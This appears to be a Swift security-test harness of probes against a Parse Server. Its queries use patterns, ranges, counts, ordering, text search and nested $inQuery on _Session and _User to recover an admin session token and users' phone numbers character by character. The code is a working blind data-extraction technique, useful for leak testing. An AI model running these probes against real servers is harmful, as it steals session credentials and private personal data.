import ParseProtocol

/// All probes, for a session token and for private phone numbers of users.
struct Probes {
    /// The token of the admin's session.
    let sessionToken: String
    let adminId: String
    let phones: [String]

    var all: [Probe] { sessionProbes + phoneProbes + [textProbe] }

    private var sessionProbes: [Probe] {
        let user = JSON.pointer("_User", adminId)
        func probe(
            _ name: String, _ guess: Probe.Guess, _ condition: @escaping @Sendable (String, Int) -> JSON
        ) -> Probe {
            Probe(
                name: "session token, \(name)", secrets: [sessionToken], known: 2, alphabet: Array("0123456789abcdef"),
                guess: guess
            ) { guess in
                let sessions: JSON = [
                    "user": user, "$or": Probe.any { ["sessionToken": condition(guess, $0)] }["$or"] ?? [],
                ]
                return .query(
                    "/classes/Product",
                    ["where": ["brand": ["$inQuery": ["className": "_Session", "where": sessions]]], "limit": 1])
            }
        }
        return [
            probe("pattern in $inQuery", .beginning) { Probe.pattern($0, "0-9a-f", $1) },
            probe("equality in $inQuery", .whole) { guess, _ in .string(guess) },
            probe("range in $inQuery", .beginning) { guess, _ in Probe.range(guess) },
        ]
    }

    private var phoneProbes: [Probe] {
        func probe(
            _ name: String, _ guess: Probe.Guess, _ path: String = "/users", _ options: [String: JSON] = [:],
            _ condition: @escaping @Sendable (String, Int) -> JSON
        ) -> Probe {
            Probe(name: "phone, \(name)", secrets: phones, known: 2, alphabet: Array("0123456789"), guess: guess) {
                guess in
                .query(path, options.merging(["where": Probe.any { condition(guess, $0) }]) { own, _ in own })
            }
        }
        return [
            probe("pattern", .beginning) { ["phone": Probe.pattern($0, "0-9", $1)] },
            probe("pattern by a pointed field", .beginning, "/classes/Product") { guess, number in
                let condition: JSON = ["user.phone": Probe.pattern(guess, "0-9", number)]
                return ["brand": ["$inQuery": ["className": "_Session", "where": condition]]]
            },
            probe("pattern in $inQuery", .beginning, "/classes/ProductReview") { guess, number in
                ["user": ["$inQuery": ["className": "_User", "where": ["phone": Probe.pattern(guess, "0-9", number)]]]]
            },
            probe("equality", .whole) { guess, _ in ["phone": .string(guess)] },
            probe("range", .beginning) { guess, _ in ["phone": Probe.range(guess)] },
            probe("count of a range", .beginning, "/users", ["count": 1, "limit": 0]) { guess, _ in
                ["phone": Probe.range(guess)]
            },
            probe("order of a range", .beginning, "/users", ["order": "phone,-createdAt", "limit": 1]) { guess, _ in
                ["phone": Probe.range(guess)]
            },
        ]
    }

    /// Text search is allowed only at the top level of a query, and once.
    private var textProbe: Probe {
        Probe(name: "phone, text", secrets: phones, known: 2, alphabet: Array("0123456789"), guess: .whole) { guess in
            let search: JSON = ["$text": ["$search": ["$term": .string(String(guess.dropFirst()))]]]
            return .query("/users", ["where": ["phone": search]])
        }
    }
}
